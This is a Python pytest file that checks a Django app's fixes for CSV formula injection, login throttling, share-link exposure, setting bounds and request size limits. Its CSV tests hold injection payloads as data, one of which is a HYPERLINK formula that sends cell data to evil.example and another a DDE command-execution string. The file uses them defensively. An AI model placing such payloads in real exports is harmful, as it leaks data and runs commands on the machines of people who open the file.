"""What a second black-box probe found (issue 19), each as the probe's request: login throttling, formulas in
CSV exports, share links shown in public, unbounded settings, large request bodies.

The content security policy is checked in the browser (tests/browser/test_csp.py).
"""

from __future__ import annotations

import asyncio
import csv
import io
import socket
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from chaoslm.csvsafe import csv_text, safe_cell
from rooms.models import Room
from tests.security.test_access import make_debate
from tests.tournaments.test_web import make_tournament
from tournaments.models import Question

pytestmark = pytest.mark.django_db(transaction=True)

KINDS = ["debate", "room", "tournament"]


def make(kind, owner, visibility):
    if kind == "debate":
        return make_debate(owner, visibility)
    if kind == "room":
        return Room.objects.create(title="Chat", owner=owner, visibility=visibility)
    return make_tournament(owner, visibility)


def logged_in(user):
    client = Client()
    client.force_login(user)
    return client


# 2. Formulas in CSV exports.


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_a_question_that_starts_a_formula_is_exported_as_text(people):
    tournament = make_tournament(people["owner"], "private", topics=[*FORMULAS, "\tTabbed", "\rReturned", "Plain?"])
    Question.objects.filter(tournament=tournament, topic="Plain?").update(premise="=1+1")
    body = logged_in(people["owner"]).get(reverse("tournament_export", args=[tournament.pk, "matches.csv"]))
    rows = list(csv.reader(io.StringIO(body.content.decode(), newline="")))
    header, data = rows[0], rows[1:]
    topics = {row[header.index("topic")] for row in data}
    assert topics == {"'" + f for f in FORMULAS} | {"'\tTabbed", "'\rReturned", "Plain?"}
    assert {row[header.index("premise")] for row in data if row[header.index("topic")] == "Plain?"} == {"'=1+1"}


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert csv_text([["name", "rating"], ["-Bob", -1.25], ["Ada", 0.5], ["a=b", 3]]) == (
        "name,rating\r\n'-Bob,-1.25\r\nAda,0.5\r\na=b,3\r\n"
    )
    assert [safe_cell(v) for v in ("", None, 7, "x")] == ["", None, 7, "x"]


# 3. Share links that were shown in public.


@pytest.mark.parametrize("kind", KINDS)
def test_only_the_owner_is_shown_the_share_link(people, kind):
    thing = make(kind, people["owner"], "public")
    detail = reverse(f"{kind}_detail", args=[thing.pk])
    # Staff manage a tournament's or an experiment's sharing too (one made on the command line may have no owner).
    batch = kind in ("tournament", "experiment")
    for who, client in [
        ("anonymous", Client()),
        ("other", logged_in(people["other"])),
        *([] if batch else [("staff", logged_in(people["staff"]))]),
    ]:
        page = client.get(detail)
        assert page.status_code == 200, who
        assert thing.share_token not in page.content.decode(), who
    assert thing.share_token in logged_in(people["owner"]).get(detail).content.decode()
    if batch:
        assert thing.share_token in logged_in(people["staff"]).get(detail).content.decode()


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("now", ["unlisted", "private"])
def test_a_link_copied_while_it_was_public_stops_working_when_it_stops_being_public(people, kind, now):
    thing = make(kind, people["owner"], "public")
    copied = reverse(f"{kind}_share", args=[thing.share_token])
    stranger = Client()
    assert stranger.get(copied).status_code == 200

    owner = logged_in(people["owner"])
    response = owner.post(reverse(f"{kind}_visibility", args=[thing.pk]), {"visibility": now}, follow=True)
    assert response.status_code == 200
    thing.refresh_from_db()
    assert stranger.get(copied).status_code == 404
    if kind == "tournament":
        export = reverse("tournament_share_export", args=[copied.split("/")[-2], "matches.csv"])
        assert stranger.get(export).status_code == 404
    fresh = reverse(f"{kind}_share", args=[thing.share_token])
    assert fresh != copied
    assert stranger.get(fresh).status_code == (200 if now == "unlisted" else 404)
    # The owner's page shows the new link once there is one to hand out.
    assert (thing.share_token in response.content.decode()) == (now == "unlisted")


@pytest.mark.parametrize("kind", KINDS)
def test_unlisted_to_private_and_back_keeps_the_link(people, kind):
    """Only a public page showed its link to everyone: an unlisted one's link is the owner's to keep."""
    thing = make(kind, people["owner"], "unlisted")
    token = thing.share_token
    owner = logged_in(people["owner"])
    for value in ("private", "unlisted"):
        owner.post(reverse(f"{kind}_visibility", args=[thing.pk]), {"visibility": value})
    thing.refresh_from_db()
    assert thing.share_token == token
    assert Client().get(reverse(f"{kind}_share", args=[token])).status_code == 200


# 1. Login throttling.


def login(username, password, address="203.0.113.7", url="/accounts/login/"):
    client = Client(REMOTE_ADDR=address)
    response = client.post(url, {"username": username, "password": password})
    return response, client


def is_logged_in(client):
    return "_auth_user_id" in client.session


@pytest.mark.parametrize("url", ["/accounts/login/", "/admin/login/"])
def test_failed_logins_for_one_account_are_throttled_even_from_many_addresses(people, settings, url):
    assert settings.AXES_FAILURE_LIMIT == 5
    for attempt in range(4):
        response, _ = login("stella", "wrong", address=f"198.51.100.{attempt}", url=url)
        assert response.status_code == 200  # the form again, with its error
    assert login("stella", "wrong", address="198.51.100.4", url=url)[0].status_code == 429  # the fifth
    response, client = login("stella", "pw-stella-123", address="198.51.100.99", url=url)
    page = response.content.decode()
    assert response.status_code == 429 and not is_logged_in(client)
    assert "Too many failed logins" in page and "paused for 15 minutes" in page
    # Another account from those addresses is not held back by it.
    response, client = login("olive", "pw-olive-123", address="198.51.100.98")
    assert response.status_code == 302 and is_logged_in(client)


def test_failed_logins_from_one_address_are_throttled_whatever_the_username(people):
    for name in ("admin", "root", "olive", "otto"):
        assert login(name, "guess", address="192.0.2.1")[0].status_code == 200
    assert login("guest", "guess", address="192.0.2.1")[0].status_code == 429
    response, client = login("olive", "pw-olive-123", address="192.0.2.1")
    assert response.status_code == 429 and not is_logged_in(client)
    response, client = login("olive", "pw-olive-123", address="192.0.2.2")
    assert response.status_code == 302 and is_logged_in(client)


def test_the_lockout_lifts_after_the_cool_off_and_a_success_clears_the_count(people):
    from axes.models import AccessAttempt
    from django.utils import timezone

    for _ in range(4):
        login("olive", "wrong")
    assert login("olive", "pw-olive-123")[0].status_code == 302  # below the limit: in, and the count restarts
    for _ in range(4):
        login("olive", "wrong")
    assert login("olive", "pw-olive-123")[0].status_code == 302
    for _ in range(5):
        login("olive", "wrong")
    assert login("olive", "pw-olive-123")[0].status_code == 429
    AccessAttempt.objects.update(attempt_time=timezone.now() - timezone.timedelta(minutes=16))
    response, client = login("olive", "pw-olive-123")
    assert response.status_code == 302 and is_logged_in(client)


# 4. Bounds on every number a person sets.


def test_a_rooms_max_messages_is_bounded_in_its_form_and_the_admin(people):
    room = Room.objects.create(title="Chat", owner=people["owner"])
    settings_url = reverse("room_settings", args=[room.pk])
    fields = {"response_delay": 3, "max_wait": 60}
    response = logged_in(people["owner"]).post(settings_url, {**fields, "max_messages": 10**9})
    assert (response.status_code, response.content.decode()) == (422, "max_messages: At most 1000 (or 0 for no limit).")
    assert logged_in(people["owner"]).post(settings_url, {**fields, "max_messages": 1000}).status_code == 302
    room.refresh_from_db()
    assert room.max_messages == 1000

    people["staff"].is_superuser = True
    people["staff"].save()
    admin = logged_in(people["staff"])
    change = reverse("admin:rooms_room_change", args=[room.pk])
    form = {
        "title": "Chat",
        "owner": people["owner"].pk,
        "visibility": "private",
        "share_token": room.share_token,
        "mode": "manual",
        "queue": "{}",
        **fields,
        "max_messages": 10**9,
        "messages_since_auto": 0,
        "pause_reason": "",
        "agents-TOTAL_FORMS": 0,
        "agents-INITIAL_FORMS": 0,
    }
    response = admin.post(change, form)
    assert response.status_code == 200 and "At most 1000 (or 0 for no limit)." in response.content.decode()
    room.refresh_from_db()
    assert room.max_messages == 1000


def test_a_providers_context_window_is_bounded_in_the_admin(people):
    from personas.models import Provider

    people["staff"].is_superuser = True
    people["staff"].save()
    form = {"name": "Big", "base_url": "http://127.0.0.1:9/v1", "api_key_env": "", "default_model": "m"}
    form["json_mode"] = "json_object"
    admin = logged_in(people["staff"])
    response = admin.post(reverse("admin:personas_provider_add"), {**form, "context_window": 10**12})
    assert response.status_code == 200 and "From 1 to 10,000,000 tokens." in response.content.decode()
    assert admin.post(reverse("admin:personas_provider_add"), {**form, "context_window": 0}).status_code == 200
    assert not Provider.objects.exists()
    assert admin.post(reverse("admin:personas_provider_add"), {**form, "context_window": 131072}).status_code == 302
    assert Provider.objects.get().context_window == 131072


def test_a_base_url_typed_without_a_scheme_is_taken_as_http_in_the_admin(people):
    from personas.models import Provider

    people["staff"].is_superuser = True
    people["staff"].save()
    form = {"name": "Local", "base_url": "127.0.0.1:8080/v1", "api_key_env": "", "default_model": "m"}
    form |= {"json_mode": "json_object", "context_window": 8192}
    admin = logged_in(people["staff"])
    refused = admin.post(reverse("admin:personas_provider_add"), {**form, "base_url": "localhost:11434/v1"})
    assert refused.status_code == 200 and not Provider.objects.exists()
    page = refused.content.decode()
    assert "Write the whole URL, with http:// or https://, e.g. http://localhost:11434/v1." in page
    assert 'value="localhost:11434/v1"' in page
    assert admin.post(reverse("admin:personas_provider_add"), form).status_code == 302
    assert Provider.objects.get().base_url == "http://127.0.0.1:8080/v1"


# 5. Large request bodies.

UPLOAD_HEAD = "POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: multipart/form-data; boundary=b\r\n{length}\r\n"


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """A real ChaosLM server (daphne, production settings), its port."""
    import os
    import subprocess
    import sys
    import time
    from pathlib import Path

    from bench._setup import PRODUCTION_LIKE, free_port

    root = Path(__file__).resolve().parents[2]
    folder = tmp_path_factory.mktemp("served")
    env = {**os.environ, **PRODUCTION_LIKE, "DATABASE_URL": f"sqlite:///{folder}/site.sqlite3"}
    env["CHAOSLM_LOG_LEVEL"] = "WARNING"
    subprocess.run([sys.executable, "manage.py", "migrate", "-v0"], cwd=root, env=env, check=True, timeout=120)
    port = free_port()
    with (folder / "site.log").open("wb") as log:
        site = subprocess.Popen(
            [sys.executable, "manage.py", "runserver", f"127.0.0.1:{port}", "--noreload", "--skip-checks"],
            cwd=root,
            env=env,
            stdout=log,
            stderr=subprocess.STDOUT,
        )
    # Generous: on a loaded two-core machine the server may take most of a minute to start.
    deadline = time.monotonic() + 180
    while True:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
            break
        except OSError:
            log_text = (folder / "site.log").read_text(errors="replace")
            assert site.poll() is None, f"the server exited: {log_text}"
            assert time.monotonic() < deadline, f"the server did not start in 180 s: {log_text}"
            time.sleep(0.2)
    yield port
    site.terminate()
    site.wait(10)


def answer(port, head: bytes, body_parts=(), timeout=5.0) -> bytes:
    """What the server answers to `head`, then `body_parts` sent one after another, within `timeout`."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(head)
        for part in body_parts:
            sock.sendall(part)
        received = b""
        try:
            while b"\r\n\r\n" not in received or len(received) < 400:
                more = sock.recv(65536)
                if not more:
                    break
                received += more
        except TimeoutError:
            pass
        return received


@pytest.mark.parametrize("path", ["/accounts/login/", "/tournaments/new/", "/no/such/page/"])
def test_a_body_declared_over_the_limit_is_refused_before_a_byte_of_it_is_sent(served, path):
    head = UPLOAD_HEAD.format(path=path, length=f"Content-Length: {30 * 1024 * 1024}\r\n").encode()
    reply = answer(served, head)
    assert reply.startswith(b"HTTP/1.1 413 "), reply[:200]
    assert b"That request is too large" in reply and b"at most 4 MB in one request" in reply


def test_a_body_sent_without_a_length_is_cut_off_at_the_limit(served):
    head = UPLOAD_HEAD.format(path="/accounts/login/", length="Transfer-Encoding: chunked\r\n").encode()
    chunk = b"10000\r\n" + b"x" * 0x10000 + b"\r\n"
    reply = answer(served, head, [chunk] * (4 * 16 + 1) + [b"0\r\n\r\n"])
    assert reply.startswith(b"HTTP/1.1 413 "), reply[:200]


def test_a_body_within_the_limit_reaches_the_site(served):
    body = (
        b'--b\r\nContent-Disposition: form-data; name="username"\r\n\r\n' + b"x" * (3 * 1024 * 1024) + b"\r\n--b--\r\n"
    )
    head = UPLOAD_HEAD.format(path="/accounts/login/", length=f"Content-Length: {len(body)}\r\n").encode()
    reply = answer(served, head, [body])
    assert reply.startswith(b"HTTP/1.1 403 "), reply[:200]  # Django's CSRF check: the body was read and parsed


async def asgi_post(app, headers, chunks):
    """POST /accounts/login/ to the ASGI `app` with `chunks` of body; (status, body, chunks read)."""
    read = 0
    sent = []

    async def receive():
        nonlocal read
        if read < len(chunks):
            read += 1
            return {"type": "http.request", "body": chunks[read - 1], "more_body": read < len(chunks)}
        await asyncio.Event().wait()  # the client stays until answered, as a real one does

    async def send(message):
        sent.append(message)

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/accounts/login/",
        "raw_path": b"/accounts/login/",
        "query_string": b"",
        "root_path": "",
        "headers": [(b"host", b"127.0.0.1"), (b"content-type", b"application/x-www-form-urlencoded"), *headers],
        "client": ("127.0.0.1", 5000),
        "server": ("127.0.0.1", 8000),
    }
    await app(scope, receive, send)
    start = next(m for m in sent if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return start["status"], body, read


def test_the_asgi_application_refuses_a_large_body_under_any_server(settings):
    from asgiref.sync import async_to_sync

    from config.asgi import application

    http = application.app.application_mapping["http"]
    settings.CHAOSLM_MAX_REQUEST_BYTES = 1000
    chunks = [b"a=" + b"x" * 598] * 3
    status, body, read = async_to_sync(asgi_post)(http, [(b"content-length", b"1800")], chunks)
    assert (status, read) == (413, 0) and b"at most 1000 bytes in one request" in body
    status, body, read = async_to_sync(asgi_post)(http, [], chunks)
    assert (status, read) == (413, 2) and b"That request is too large" in body
    status, _, read = async_to_sync(asgi_post)(http, [], chunks[:1])
    assert (status, read) == (403, 1)  # within the limit: Django read it (and its CSRF check refused it)


def test_the_command_line_holds_the_same_bounds(tmp_path, db):
    from django.core.management import CommandError, call_command

    duel = [
        "debate",
        "duel",
        "--topic",
        "Tea?",
        "--a",
        "personas/samples/ada-sterling.yaml",
        "--b",
        "personas/samples/marcus-vale.yaml",
    ]
    with pytest.raises(CommandError, match="Turns must be from 1 to 40"):
        call_command(*duel, "--turns", str(10**9))
    with pytest.raises(CommandError, match="Word limit must be from 0 to 5000"):
        call_command(*duel, "--word-limit", str(10**9))
    spec = tmp_path / "league.yaml"
    personas = Path(__file__).resolve().parents[2] / "personas" / "samples"
    spec.write_text(
        f"name: Big\ndebaters: [{personas}/ada-sterling.yaml, {personas}/marcus-vale.yaml]\n"
        f"judges: [{personas}/judge-okafor.yaml]\nquestions: [Tea or coffee]\nconcurrency: 1000000000\n"
    )
    with pytest.raises(CommandError, match="Concurrency must be between 1 and 100"):
        call_command("tournament", "run", str(spec))


def test_the_admin_shows_a_debates_options_but_does_not_change_them(people):
    debate = make_debate(people["owner"], "private")
    people["staff"].is_superuser = True
    people["staff"].save()
    page = logged_in(people["staff"]).get(reverse("admin:debates_debate_change", args=[debate.pk])).content.decode()
    assert "max_turns" in page and 'name="options"' not in page and 'name="format"' not in page
